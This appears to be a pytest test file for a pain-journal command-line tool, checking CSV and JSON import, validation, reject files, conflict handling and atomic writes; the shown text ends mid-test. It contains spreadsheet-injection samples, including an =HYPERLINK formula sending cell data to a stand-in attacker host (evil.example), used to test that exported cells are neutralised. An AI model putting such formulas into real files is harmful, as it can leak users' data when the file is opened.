"""Research features through the real command line: `import`, `export`, `cohort`, and the
library functions behind them (`transfer.import_rows`, `transfer.export`).

Most tests run the Typer app in-process (the ``cli`` fixture); a few run
``python -m pumpjournal`` as a real process: `import -` reading a pipe, a pipe from `export`
into `import`, and a Ctrl-C or a crash part way through an import. Hypothesis drives random
rows through `import_rows` on an in-memory journal (all rows or none; only InputError) and
random valid entries through export -> import -> export.

Files are small (tens of rows). Dates are fixed days in the past (2025), so no test depends on
the day it runs, except where "today" is the point.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import re
import signal
import subprocess
import time
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pumpjournal import InputError, Journal, transfer
from pumpjournal import model
from pumpjournal import symptoms as cat
from pumpjournal.store import View, empty_data
from pjtest import NOT_ADVICE, Child, child_env, ok, pumpjournal, run_child, snapshot

CSV_COLUMNS = ["patient", "date", "time", "utc_offset", "pain", "worst", "least", "average",
               "symptoms", "worse", "temperature", "temperature_c", "temperature_site",
               "boluses", "sleep", "mood", "impression", "note", "questions", "contacted",
               "logged_at", "updated_at"]
SUMMARY_KEYS = {"rows", "imported", "updated", "skipped", "unchanged", "rejected",
                "warning_signs", "errors", "rejects_file"}
PAIN_ACCEPTED = "0 = no pain at all, 10 = the worst pain you can imagine"
STAMP = "2025-06-01T09:00:00+00:00"
TODAY = date(2025, 6, 1)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+1", "-2", "@SUM(A1:A9)"]
FHIR_ID = re.compile(r"^[A-Za-z0-9\-.]{1,64}$")


def d(n: int) -> str:
    """A fixed past day: d(1) is 2025-03-01."""
    return (date(2025, 3, 1) + timedelta(days=n - 1)).isoformat()


def write(folder: Path, name: str, content: str | bytes) -> Path:
    path = folder / name
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8", newline="")
    else:
        path.write_bytes(content)
    return path


def stored(journal: Path) -> list[dict]:
    """Every entry in the journal as its JSON form, by person then date."""
    if not journal.exists():
        return []
    return sorted((e.to_json() for e in Journal(journal).entries()),
                  key=lambda e: (e["patient"], e["date"]))


def summary(result) -> dict:
    """The `Import summary:` lines of a text import as {label: value}."""
    text = result.stdout
    assert "Import summary:" in text, (result.stdout, result.stderr)
    found = {}
    for line in text.split("Import summary:", 1)[1].splitlines():
        label, sep, value = line.strip().partition(": ")
        if sep:
            found[label] = value
    return found


def import_refused(result, journal: Path, before: bytes | None, code: int = 2) -> str:
    """An import that changed nothing: its exit code, no traceback, the journal byte for byte
    as it was (or still absent). Returns stderr."""
    assert result.exit_code == code, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr + result.stdout
    assert snapshot(journal) == before
    return result.stderr


def seed_journal(cli, journal: Path) -> bytes:
    """A journal holding one entry for 'me' (made with `log`); returns its bytes."""
    ok(cli("log", "--pain", "2", "--date", d(40), "--note", "logged by hand"))
    return journal.read_bytes()


def run_input(args: list[str], journal: Path, data: str, **env: str):
    """The CLI as a real process (forked from the test run) with ``data`` on its stdin (a
    pipe)."""
    return run_child(args, child_env(journal, **env), input=data)


DIARY = (
    "patient,date,pain,worst,least,average,symptoms,temperature,temperature_site,boluses,"
    "sleep,mood,note,questions\n"
    f"p001,{d(1)},5,7,3,5,,,,1,6.5,6,Paper diary week 1,\n"
    f"p001,{d(2)},4,6,3,4,incision-soreness,37.2 C,mouth,0,7,6,,\n"
    f"p001,{d(3)},6,8,4,6,fever;chills,100.8 F,ear,2,5,4,Called the clinic,"
    "Is the redness normal?\n"
    f"p002,{d(1)},3,4,2,3,,,,,8,7,,\n"
    f"p002,{d(2)},3,5,2,3,headache,,,,7.5,7,,\n"
)


# The template and the format --------------------------------------------------------------


def test_template_prints_a_sample_with_every_column_that_imports(cli, journal, tmp_path):
    result = ok(cli("import", "--template"))
    header = next(csv.reader(io.StringIO(result.stdout)))
    for column in ("patient", "date", "pain", "worst", "least", "average", "symptoms",
                   "temperature", "temperature_site", "boluses", "sleep", "mood", "note",
                   "questions"):
        assert column in header
    sample = write(tmp_path, "diary.csv", result.stdout)
    checked = ok(cli("import", str(sample), "--dry-run"))
    rows = len(result.stdout.strip().splitlines()) - 1
    assert summary(checked)["Rows read"] == str(rows)
    assert summary(checked)["Rejected"] == "0"
    assert not journal.exists()


def test_format_comes_from_the_suffix_or_from_format(cli, journal, tmp_path):
    as_txt = write(tmp_path, "diary.txt", DIARY)
    error = import_refused(cli("import", str(as_txt)), journal, None)
    assert "--format" in error
    ok(cli("import", str(as_txt), "--format", "csv"))
    assert len(stored(journal)) == 5

    jsonl = write(tmp_path, "more.jsonl", json.dumps({"patient": "p003", "date": d(1),
                                                      "pain": 2}) + "\n")
    ok(cli("import", str(jsonl)))
    as_json = write(tmp_path, "more.json", json.dumps([{"patient": "p004", "date": d(1),
                                                        "pain": 1}]))
    ok(cli("import", str(as_json)))
    assert {e["patient"] for e in stored(journal)} == {"p001", "p002", "p003", "p004"}


def test_reading_stdin_needs_format(cli, journal):
    error = import_refused(cli("import", "-", input=DIARY), journal, None)
    assert "--format" in error
    ok(cli("import", "-", "--format", "csv", input=DIARY))
    assert len(stored(journal)) == 5


def test_a_missing_file_is_a_clear_error(cli, journal, tmp_path):
    error = import_refused(cli("import", str(tmp_path / "nope.csv")), journal, None)
    assert "nope.csv" in error and "Traceback" not in error


# Columns ----------------------------------------------------------------------------------


def test_entry_field_columns_are_stored_as_log_stores_them(cli, cli_json, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    entries = {(e["patient"], e["date"]): e for e in stored(journal)}
    third = entries[("p001", d(3))]
    assert (third["pain"], third["worst"], third["least"], third["average"]) == (6, 8, 4, 6)
    assert third["symptoms"] == ["fever", "chills"]
    assert third["temperature"] == "100.8 F" and third["temperature_c"] == 38.22
    assert third["temperature_site"] == "ear"
    assert (third["boluses"], third["sleep"], third["mood"]) == (2, 5.0, 4)
    assert third["note"] == "Called the clinic"
    assert third["questions"] == ["Is the redness normal?"]
    # a value left empty is stored as missing, never as 0
    assert entries[("p002", d(1))]["boluses"] is None
    assert entries[("p002", d(1))]["temperature_c"] is None
    # `show` sees the imported day with its warning signs
    shown = cli_json("show", d(3), "--patient", "p001")
    assert {"W-INF"} <= {f["rule"] for f in shown["flags"]}


def test_symptoms_as_one_column_or_one_0_1_column_per_symptom(cli, journal, tmp_path):
    narrow = write(tmp_path, "narrow.csv", "patient,date,pain,symptoms\n"
                   f"a,{d(1)},3,fever;leg_numbness\n"
                   f"a,{d(2)},2,\n"
                   f"a,{d(3)},4,Headache\n")
    wide = write(tmp_path, "wide.csv", "patient,date,pain,fever,leg-numbness,Headache\n"
                 f"b,{d(1)},3,1,1,0\n"
                 f"b,{d(2)},2,0,0,0\n"
                 f"b,{d(3)},4,0,,1\n")
    ok(cli("import", str(narrow)))
    ok(cli("import", str(wide)))
    by_person = {p: [e["symptoms"] for e in stored(journal) if e["patient"] == p]
                 for p in ("a", "b")}
    assert by_person["a"] == [["fever", "leg-numbness"], [], ["headache"]]
    assert by_person["b"] == by_person["a"]


def test_map_and_patient_columns_fill_many_peoples_journals(cli, cli_json, journal,
                                                              tmp_path):
    source = write(tmp_path, "study.csv", "participant_id,Day,Pain score\n"
                   f"s01,{d(1)},4\ns01,{d(2)},6\ns02,{d(1)},1\ns03,{d(5)},7\n")
    result = ok(cli("import", str(source), "--map", "Day=date", "--map", "Pain score=pain"))
    assert summary(result)["Imported"] == "4"
    assert [(e["patient"], e["date"], e["pain"]) for e in stored(journal)] == [
        ("s01", d(1), 4), ("s01", d(2), 6), ("s02", d(1), 1), ("s03", d(5), 7)]
    assert [row["patient"] for row in cli_json("cohort")] == ["s01", "s02", "s03"]
    assert [e["pain"] for e in cli_json("list", "--patient", "s01")] == [6, 4]

    subject = write(tmp_path, "subject.csv", f"Subject,date,pain\nS-9,{d(2)},3\n")
    ok(cli("import", str(subject), "--map", "Subject=patient"))
    assert ("S-9", d(2), 3) in [(e["patient"], e["date"], e["pain"]) for e in stored(journal)]


def test_a_bad_map_is_refused(cli, journal, tmp_path):
    source = write(tmp_path, "diary.csv", DIARY)
    error = import_refused(cli("import", str(source), "--map", "Pain score"), journal, None)
    assert "COLUMN=FIELD" in error


def test_an_unknown_column_is_an_error_naming_it_and_the_known_fields(cli, journal, tmp_path):
    before = seed_journal(cli, journal)
    source = write(tmp_path, "app.csv", "date,pain,Comments,Device serial\n"
                   f"{d(1)},3,fine,X1\n{d(2)},4,ok,X1\n")
    result = cli("import", str(source))
    error = import_refused(result, journal, before)
    assert "'Comments'" in error and "'Device serial'" in error
    for field in ("patient", "date", "pain", "worst", "symptoms", "temperature", "note"):
        assert field in error
    assert "--ignore-column" in error and "--ignore-extra" in error
    assert "nothing was changed" in error.lower()


def test_ignore_column_repeatable_and_ignore_extra_are_reported(cli, cli_json, journal,
                                                                tmp_path):
    source = write(tmp_path, "app.csv", "date,pain,Comments,Device serial\n"
                   f"{d(1)},3,fine,X1\n{d(2)},4,ok,X1\n")
    result = ok(cli("import", str(source), "--ignore-column", "Comments",
                    "--ignore-column", "Device serial", "--dry-run"))
    assert summary(result)["Ignored columns"] == "Comments, Device serial"
    only_one = cli("import", str(source), "--ignore-column", "Comments")
    assert "'Device serial'" in import_refused(only_one, journal, None)

    report = cli_json("import", str(source), "--ignore-extra")
    assert report["ignored_columns"] == ["Comments", "Device serial"]
    assert report["imported"] == 2
    assert [e["note"] for e in stored(journal)] == [None, None]


def test_no_patient_column_in_a_journal_of_several_people_asks_for_patient(cli, journal,
                                                                           tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    before = journal.read_bytes()
    source = write(tmp_path, "one.csv", f"date,pain\n{d(9)},3\n")
    error = import_refused(cli("import", str(source)), journal, before)
    assert "--patient" in error
    ok(cli("import", str(source), "--patient", "p002"))
    assert ("p002", d(9)) in [(e["patient"], e["date"]) for e in stored(journal)]


def test_without_a_patient_column_rows_belong_to_the_journal_owner(cli, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "mine.csv", f"date,pain\n{d(1)},3\n{d(2)},4\n"))))
    assert {e["patient"] for e in stored(journal)} == {"me"}


# Dates ------------------------------------------------------------------------------------


def test_date_format_reads_us_short_dates(cli, journal, tmp_path):
    source = write(tmp_path, "us.csv", "date,pain\n10/1/25,4\n12/31/24,5\n")
    ok(cli("import", str(source), "--date-format", "%m/%d/%y"))
    assert [e["date"] for e in stored(journal)] == ["2024-12-31", "2025-10-01"]


@pytest.mark.parametrize("value, date_format", [
    ("01/10/2025", None),          # not ISO and no --date-format: never guessed
    ("2025-1-5", None),
    ("2025-02-30", None),          # not a real day
    ("2025-03-01", "%d.%m.%Y"),    # does not match the format given
    ("13/01/25", "%m/%d/%y"),      # month 13
])
def test_a_date_that_does_not_match_is_a_row_error(cli, journal, tmp_path, value,
                                                    date_format):
    source = write(tmp_path, "d.csv", f"date,pain\n{d(1) if not date_format else '1.3.2025'}"
                   f",3\n{value},4\n")
    args = ["import", str(source)] + (["--date-format", date_format] if date_format else [])
    error = import_refused(cli(*args), journal, None)
    assert f"row 3, column date '{value}'" in error


def test_a_future_date_is_a_row_error(cli, journal, tmp_path):
    tomorrow = (date.today() + timedelta(days=1)).isoformat()
    source = write(tmp_path, "f.csv", f"date,pain\n{d(1)},3\n{tomorrow},4\n")
    error = import_refused(cli("import", str(source)), journal, None)
    assert f"row 3, column date '{tomorrow}'" in error and "future" in error


def test_a_date_log_refuses_as_too_old_is_refused_by_import_too(cli, journal, tmp_path):
    """`log` refuses a year before 1900; import must check rows with the same rules."""
    assert cli("log", "--pain", "3", "--date", "1850-01-01").exit_code == 2
    source = write(tmp_path, "old.csv", f"date,pain\n{d(1)},3\n1850-01-01,4\n")
    error = import_refused(cli("import", str(source)), journal, None)
    assert "row 3, column date '1850-01-01'" in error


# Encodings, line ends and delimiters ------------------------------------------------------


PLAIN = f"patient,date,pain,symptoms,note\np1,{d(1)},3,fever;chills,café\np1,{d(2)},4,,ok\n"


@pytest.mark.parametrize("name, content, options", [
    ("bom.csv", b"\xef\xbb\xbf" + PLAIN.encode(), []),
    ("crlf.csv", PLAIN.replace("\n", "\r\n").encode(), []),
    ("bom-crlf.csv", b"\xef\xbb\xbf" + PLAIN.replace("\n", "\r\n").encode(), []),
    ("semi.csv", PLAIN.replace(",", ";").replace("fever;chills", "fever,chills").encode(),
     ["--delimiter", ";"]),
    ("semi-quoted.csv", PLAIN.replace(",", ";").replace("fever;chills", '"fever;chills"')
     .encode(), ["--delimiter", ";"]),
    ("tab.csv", PLAIN.replace(",", "\t").encode(), ["--delimiter", "\t"]),
])
def test_bom_crlf_and_other_delimiters_import_like_any_other(cli, journal, tmp_path, name,
                                                             content, options):
    plain_journal = tmp_path / "plain" / "journal.json"
    ok(cli("--journal", str(plain_journal), "import",
           str(write(tmp_path, "plain.csv", PLAIN))))
    ok(cli("import", str(write(tmp_path, name, content)), *options))

    def values(path):
        return [{k: v for k, v in e.items() if k not in ("logged_at", "updated_at")}
                for e in stored(path)]

    assert values(journal) == values(plain_journal) and len(values(journal)) == 2
    assert stored(journal)[0]["symptoms"] == ["fever", "chills"]
    assert stored(journal)[0]["note"] == "café"


def test_jsonl_with_bom_and_crlf_imports(cli, journal, tmp_path):
    lines = [json.dumps({"date": d(1), "pain": 3}), json.dumps({"date": d(2), "pain": 5})]
    source = write(tmp_path, "rows.jsonl", b"\xef\xbb\xbf" + "\r\n".join(lines).encode()
                   + b"\r\n")
    ok(cli("import", str(source)))
    assert [e["pain"] for e in stored(journal)] == [3, 5]


def test_a_file_that_is_not_utf8_is_refused_with_the_way_out(cli, journal, tmp_path):
    before = seed_journal(cli, journal)
    source = write(tmp_path, "latin1.csv", f"date,pain,note\n{d(1)},3,caf\xe9\n"
                   .encode("latin-1"))
    error = import_refused(cli("import", str(source)), journal, before)
    assert "UTF-8" in error


@pytest.mark.parametrize("what, content, words", [
    ("latin1.csv", f"date,pain,note\n{d(1)},3,caf\xe9\n".encode("latin-1"),
     "{source} is not UTF-8 text"),
    ("broken.csv", f"date,pain,note\n{d(1)},3,\"never closed\n".encode(),
     "the CSV is broken at line 2: a quote is never closed"),
], ids=["latin-1", "broken csv"])
@pytest.mark.parametrize("opened", ["open", "open_input"])
def test_a_library_import_of_an_unreadable_file_is_an_input_error(tmp_path, what, content,
                                                                   words, opened):
    """From a notebook, as from the command line: one InputError naming the file, no raw
    UnicodeDecodeError or csv.Error, and the journal unchanged."""
    from pumpjournal import InputError, Journal, import_rows, read_rows
    from pumpjournal.transfer import open_input

    path = tmp_path / "study.json"
    with Journal(path).transaction() as tx:
        tx.log("p001", date.today(), {"pain": 2}, "2026-01-01T00:00:00+00:00")
    before = path.read_bytes()
    source = write(tmp_path, what, content)
    stream = (open(source, encoding="utf-8", newline="") if opened == "open"
              else open_input(str(source)))
    with stream, pytest.raises(InputError) as caught:
        with Journal(path).transaction() as tx:
            import_rows(tx, read_rows(stream, "csv"), default_patient="p001")
    assert str(caught.value).startswith(words.format(source=source))
    assert path.read_bytes() == before


# Validation: every bad row, with where and what is accepted -------------------------------


BAD_ROWS = (
    "date,pain,worst,least,symptoms,temperature\n"
    f"{d(1)},3,5,1,,\n"               # row 2: fine
    f"{d(2)},11,,,,\n"                # row 3: pain out of range
    f"{d(3)},4,5,1,,\n"               # row 4: fine
    f"{d(4)},4,3,6,,\n"               # row 5: least above worst
    f"{d(5)},4,,,feverr,\n"           # row 6: unknown symptom
    f"{d(6)},4,,,,hot\n"              # row 7: temperature not understood
    f"{d(7)},,,,,\n"                  # row 8: pain missing
    f"{d(8)},2,,,,\n"                 # row 9: fine
)


def test_every_bad_row_is_listed_with_row_column_value_and_what_is_accepted(cli, journal,
                                                                             tmp_path):
    before = seed_journal(cli, journal)
    result = cli("import", str(write(tmp_path, "bad.csv", BAD_ROWS)))
    error = import_refused(result, journal, before)
    assert "row 3, column pain '11'" in error and PAIN_ACCEPTED in error
    assert "row 5, column least '6'" in error
    assert "row 6, column symptoms 'feverr'" in error and "fever" in error
    assert "row 7, column temperature 'hot'" in error and "38.2C" in error
    assert "row 8, column pain" in error and "required" in error
    for good in ("row 2", "row 4", "row 9"):
        assert good not in error
    assert "5 of 8 rows" in error and "--skip-invalid" in error
    assert summary(result)["Rejected"] == "5"
    assert "Nothing was written." in result.stdout


def test_import_messages_match_log_messages(cli, journal, tmp_path):
    """Rows are checked with the rules of `log`: the same words for the same mistake."""
    logged = cli("log", "--pain", "4", "--temperature", "hot", "--date", d(1))
    assert logged.exit_code == 2
    log_words = logged.stderr.strip().removeprefix("Error: ")
    log_words = log_words.removesuffix(" Nothing was changed.").rstrip(".")
    assert log_words.startswith("temperature 'hot'")
    imported = import_refused(cli("import", str(write(tmp_path, "t.csv",
                                               f"date,pain,temperature\n{d(1)},4,hot\n"))),
                       journal, None)
    assert log_words in imported


def test_the_same_person_and_day_twice_in_one_file_is_a_row_error(cli, journal, tmp_path):
    source = write(tmp_path, "dup.csv", f"patient,date,pain\na,{d(1)},3\nb,{d(1)},4\n"
                   f"a,{d(1)},5\n")
    error = import_refused(cli("import", str(source)), journal, None)
    assert "row 4" in error and "row 2" in error


def test_json_rows_that_are_not_objects_are_row_errors(cli, journal, tmp_path):
    source = write(tmp_path, "rows.json", json.dumps([{"date": d(1), "pain": 3}, 7,
                                                      {"date": d(2), "pain": 4}]))
    error = import_refused(cli("import", str(source)), journal, None)
    assert "row 2" in error


def test_a_file_that_is_not_json_is_refused(cli, journal, tmp_path):
    before = seed_journal(cli, journal)
    error = import_refused(cli("import", str(write(tmp_path, "x.json", "[{\"date\": "))),
                    journal, before)
    assert "JSON" in error


def test_dry_run_checks_and_reports_and_writes_nothing(cli, cli_json, journal, tmp_path):
    before = seed_journal(cli, journal)
    good = write(tmp_path, "good.csv", DIARY)
    result = ok(cli("import", str(good), "--dry-run"))
    assert summary(result)["Would import"] == "5"
    assert "Dry run: nothing was written." in result.stdout
    assert journal.read_bytes() == before
    report = cli_json("import", str(good), "--dry-run")
    assert report["dry_run"] is True and report["imported"] == 5
    assert journal.read_bytes() == before

    bad = cli("import", str(write(tmp_path, "bad.csv", BAD_ROWS)), "--dry-run")
    assert "row 3, column pain '11'" in import_refused(bad, journal, before)
    assert not (tmp_path / "backups").exists() and not (journal.parent / "backups").exists()


# --skip-invalid and the reject file ---------------------------------------------------------


def test_skip_invalid_imports_good_rows_and_writes_bad_ones_to_a_reject_file(
        cli, journal, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    source = write(tmp_path, "bad.csv", BAD_ROWS)
    result = cli("import", str(source), "--skip-invalid")
    assert result.exit_code == 2, result.stderr
    counts = summary(result)
    assert (counts["Rows read"], counts["Imported"], counts["Rejected"]) == ("8", "3", "5")
    assert [e["date"] for e in stored(journal)] == [d(1), d(3), d(8)]
    rejects = tmp_path / "bad-rejects.csv"
    assert f"Rejected rows written to {rejects.name}" in result.stdout
    rows = list(csv.DictReader(rejects.open(encoding="utf-8", newline="")))
    assert [r["date"] for r in rows] == [d(2), d(4), d(5), d(6), d(7)]
    assert PAIN_ACCEPTED in rows[0]["_error"]
    assert rejects.stat().st_mode & 0o777 == 0o600


def test_a_fixed_reject_file_imports_and_its_error_column_is_ignored(cli, journal, tmp_path):
    source = write(tmp_path, "bad.csv", BAD_ROWS)
    rejects = tmp_path / "fix-me.csv"
    cli("import", str(source), "--skip-invalid", "--rejects", str(rejects))
    text = rejects.read_text(encoding="utf-8")
    assert "_error" in text.splitlines()[0]
    still_bad = cli("import", str(rejects))
    assert still_bad.exit_code == 2
    assert "maps to no field" not in still_bad.stderr  # _error is not an unknown column
    assert "row 2, column pain '11'" in still_bad.stderr
    fixed = (text.replace(f"{d(2)},11,", f"{d(2)},10,").replace(f"{d(4)},4,3,6", f"{d(4)},4,6,3")
             .replace("feverr", "fever").replace(",hot,", ",38.1,")
             .replace(f"{d(7)},,", f"{d(7)},1,"))
    rejects.write_text(fixed, encoding="utf-8")
    result = ok(cli("import", str(rejects)))
    assert summary(result)["Imported"] == "5"
    assert [e["date"] for e in stored(journal)] == [d(n) for n in range(1, 9)]
    assert stored(journal)[1]["pain"] == 10
    assert stored(journal)[5]["temperature_c"] == 38.1


def test_a_jsonl_reject_file_keeps_the_format_and_imports_once_fixed(cli, cli_json, journal,
                                                                     tmp_path):
    lines = [{"date": d(1), "pain": 3, "symptoms": []},
             {"date": d(2), "pain": "a lot", "symptoms": []},
             {"date": d(3), "pain": 4, "symptoms": ["fever", "nope"]}]
    source = write(tmp_path, "study.jsonl", "".join(json.dumps(x) + "\n" for x in lines))
    rejects = tmp_path / "fix-me.jsonl"
    report = json.loads(cli("import", str(source), "--skip-invalid", "--rejects",
                            str(rejects), "--json").stdout)
    assert report["rejects_file"] == str(rejects)
    assert [(e["row"], e["column"]) for e in report["errors"]] == [(2, "pain"), (3, "symptoms")]
    bad = [json.loads(line) for line in rejects.read_text(encoding="utf-8").splitlines()]
    assert [b["date"] for b in bad] == [d(2), d(3)] and all("_error" in b for b in bad)
    bad[0]["pain"] = 8
    bad[1]["symptoms"] = ["fever"]
    rejects.write_text("".join(json.dumps(b) + "\n" for b in bad), encoding="utf-8")
    again = cli_json("import", str(rejects))
    assert again["imported"] == 2 and again["rejected"] == 0
    assert [(e["date"], e["pain"], e["symptoms"]) for e in stored(journal)] == [
        (d(1), 3, []), (d(2), 8, []), (d(3), 4, ["fever"])]


def test_a_reject_file_imports_again_with_the_options_of_the_first_import(cli, journal,
                                                                          tmp_path):
    """A `;`-separated export from a diary app: the reject file, fixed, goes back in with the
    very command that made it."""
    source = write(tmp_path, "app.csv", "Subject;Day;Pain score;fever\n"
                   "A1;1.3.25;4;1\nA1;2.3.25;5;0\nB2;31.2.25;3;0\n")
    rejects = tmp_path / "app-rejects.csv"
    options = ["--delimiter", ";", "--date-format", "%d.%m.%y", "--map", "Subject=patient",
               "--map", "Day=date", "--map", "Pain score=pain"]
    first = cli("import", str(source), *options, "--skip-invalid", "--rejects", str(rejects))
    assert first.exit_code == 2 and summary(first)["Imported"] == "2"
    rejects.write_text(rejects.read_text(encoding="utf-8").replace("31.2.25", "28.2.25"),
                       encoding="utf-8")
    again = ok(cli("import", str(rejects), *options))
    assert summary(again)["Imported"] == "1"
    assert ("B2", "2025-02-28") in [(e["patient"], e["date"]) for e in stored(journal)]


def test_a_reject_file_does_not_let_spreadsheets_run_its_cells(cli, journal, tmp_path):
    """A reject file is opened to be fixed, often in a spreadsheet: cells that begin with
    = + - @ are written with a leading ' as in an export, and import removes it again."""
    source = write(tmp_path, "bad.csv", "date,pain,note\n"
                   f"{d(1)},3,fine\n"
                   f'{d(2)},11,"=HYPERLINK(""http://evil.example"",""x"")"\n'
                   f"{d(3)},-2,@SUM(A1)\n")
    rejects = tmp_path / "rejects.csv"
    cli("import", str(source), "--skip-invalid", "--rejects", str(rejects))
    rows = list(csv.reader(rejects.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rejects.read_text()
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells


# Conflicts: re-importing the same file changes nothing -----------------------------------


def test_reimport_fails_by_default_naming_the_first_conflicts(cli, journal, tmp_path):
    source = write(tmp_path, "diary.csv", DIARY)
    ok(cli("import", str(source)))
    before = journal.read_bytes()
    result = cli("import", str(source))
    error = import_refused(result, journal, before)
    assert f"p001 {d(1)}, the reading without a time (row 2)" in error
    assert f"p002 {d(2)}, the reading without a time (row 6)" in error
    assert "--on-conflict" in error


def test_reimport_with_skip_changes_nothing(cli, journal, tmp_path):
    source = write(tmp_path, "diary.csv", DIARY)
    ok(cli("import", str(source)))
    before = journal.read_bytes()
    result = ok(cli("import", str(source), "--on-conflict", "skip"))
    assert summary(result)["Skipped (already there)"] == "5"
    assert summary(result)["Imported"] == "0"
    assert journal.read_bytes() == before


def test_skip_adds_only_the_new_rows(cli, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    grown = write(tmp_path, "grown.csv", DIARY + f"p002,{d(3)},2,3,1,2,,,,,8,7,,\n")
    result = ok(cli("import", str(grown), "--on-conflict", "skip"))
    assert (summary(result)["Imported"], summary(result)["Skipped (already there)"]) == ("1",
                                                                                       "5")
    assert len(stored(journal)) == 6


def test_update_replaces_the_given_fields_and_counts_unchanged_rows(cli, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    exported = ok(cli("export", "--format", "csv")).stdout
    changed = exported.replace(f"p002,{d(2)},,,3,5,2,3,headache",
                               f"p002,{d(2)},,,4,5,2,3,headache")
    assert changed != exported
    result = ok(cli("import", "-", "--format", "csv", "--on-conflict", "update",
                    input=changed))
    counts = summary(result)
    assert (counts["Updated"], counts["Unchanged"], counts["Imported"]) == ("1", "4", "0")
    assert [e["pain"] for e in stored(journal) if e["patient"] == "p002"] == [3, 4]


def test_reimport_with_update_later_changes_nothing(cli, journal, tmp_path, monkeypatch):
    """The same file (no logged_at/updated_at columns) imported again a minute later with
    --on-conflict update: every row is unchanged and the journal stays byte for byte."""
    from pumpjournal import dates

    minutes = itertools.count()

    def a_minute_later() -> str:
        hour, minute = divmod(9 * 60 + next(minutes), 60)
        return f"2025-06-01T{hour:02d}:{minute:02d}:00+00:00"

    monkeypatch.setattr(dates, "now_stamp", a_minute_later)
    source = write(tmp_path, "diary.csv", DIARY)
    ok(cli("import", str(source)))
    before = journal.read_bytes()
    result = ok(cli("import", str(source), "--on-conflict", "update"))
    assert (summary(result)["Updated"], summary(result)["Unchanged"]) == ("0", "5")
    assert journal.read_bytes() == before


def test_on_conflict_accepts_only_fail_skip_update(cli, journal, tmp_path):
    before = seed_journal(cli, journal)
    error = import_refused(cli("import", str(write(tmp_path, "diary.csv", DIARY)), "--on-conflict",
                        "merge"), journal, before)
    assert "fail" in error and "skip" in error and "update" in error


def test_an_update_that_would_contradict_the_stored_scores_is_refused(cli, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "a.csv", f"date,pain,worst,least\n{d(1)},4,6,2\n"))))
    before = journal.read_bytes()
    # least 7 above the stored worst 6
    result = cli("import", str(write(tmp_path, "b.csv", f"date,pain,least\n{d(1)},4,7\n")),
                 "--on-conflict", "update")
    error = import_refused(result, journal, before)
    assert "row 2" in error and "least" in error


# Refused imports leave the journal byte for byte ------------------------------------------


REFUSED = {
    "bad rows": ("bad.csv", BAD_ROWS, []),
    "unknown column": ("x.csv", f"date,pain,mystery\n{d(1)},3,1\n", []),
    "no pain column": ("x.csv", f"date,score\n{d(1)},3\n", []),
    "conflict": ("x.csv", f"date,pain\n{d(40)},5\n", []),
    "bad date format": ("x.csv", f"date,pain\n{d(1)},3\n", ["--date-format", "%d.%m.%Y"]),
    "bad delimiter": ("x.csv", f"date,pain\n{d(1)},3\n", ["--delimiter", ";;"]),
    "bad conflict mode": ("x.csv", f"date,pain\n{d(1)},3\n", ["--on-conflict", "merge"]),
    "not json": ("x.jsonl", "{\n", []),
    "empty csv": ("x.csv", "", []),
    "dry run": ("x.csv", f"date,pain\n{d(1)},3\n", ["--dry-run"]),
    "dry run skip-invalid": ("bad.csv", BAD_ROWS, ["--dry-run", "--skip-invalid"]),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_refused_import_leaves_the_journal_byte_for_byte(cli, journal, tmp_path, case):
    name, content, options = REFUSED[case]
    before = seed_journal(cli, journal)
    result = cli("import", str(write(tmp_path, name, content)), *options)
    if case == "dry run":
        assert result.exit_code == 0
    else:
        assert result.exit_code == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert journal.read_bytes() == before
    assert not (journal.parent / "backups").exists()


def test_a_refused_import_into_no_journal_creates_none(cli, journal, tmp_path):
    result = cli("import", str(write(tmp_path, "bad.csv", BAD_ROWS)))
    import_refused(result, journal, None)
    assert not journal.exists()


# One atomic write under the lock, after a backup ------------------------------------------


def test_an_import_keeps_a_backup_of_the_journal_as_it_was(cli, journal, tmp_path):
    before = seed_journal(cli, journal)
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    copies = list((journal.parent / "backups").iterdir())
    assert len(copies) == 1 and "import" in copies[0].name
    assert copies[0].read_bytes() == before
    assert copies[0].stat().st_mode & 0o777 == 0o600
    assert len(stored(journal)) == 6
    # the backup is a journal pumpjournal can open
    assert [e.note for e in Journal(copies[0]).entries()] == ["logged by hand"]


def test_an_import_checks_its_rows_without_the_lock_and_writes_once(cli, journal, tmp_path,
                                                                    monkeypatch):
    """Another writer can take the journal's lock while the rows are being read and checked;
    the import then takes it to merge and write, once."""
    from pumpjournal import store

    seed_journal(cli, journal)
    writes, lock_free = [], []
    real_write, real_read_rows = store.write_file, transfer.read_rows

    def counting_write(path, payload):
        writes.append(path)
        real_write(path, payload)

    def watching_read_rows(*args, **kwargs):
        for n, item in enumerate(real_read_rows(*args, **kwargs)):
            if n == 3:  # part way: the lock is free for another writer
                with Journal(journal, lock_timeout=0).locked():
                    lock_free.append(True)
            yield item

    monkeypatch.setattr(store, "write_file", counting_write)
    monkeypatch.setattr(transfer, "read_rows", watching_read_rows)
    rows = "date,pain\n" + "".join(f"{d(n)},{n % 11}\n" for n in range(1, 31))
    ok(cli("import", str(write(tmp_path, "thirty.csv", rows))))
    assert lock_free == [True]
    assert writes == [journal]
    assert len(stored(journal)) == 31


def test_ctrl_c_part_way_leaves_the_journal_as_it_was(cli, journal, tmp_path, monkeypatch):
    before = seed_journal(cli, journal)
    real = transfer.read_rows

    def interrupted(*args, **kwargs):
        for n, item in enumerate(real(*args, **kwargs)):
            if n == 5:
                raise KeyboardInterrupt
            yield item

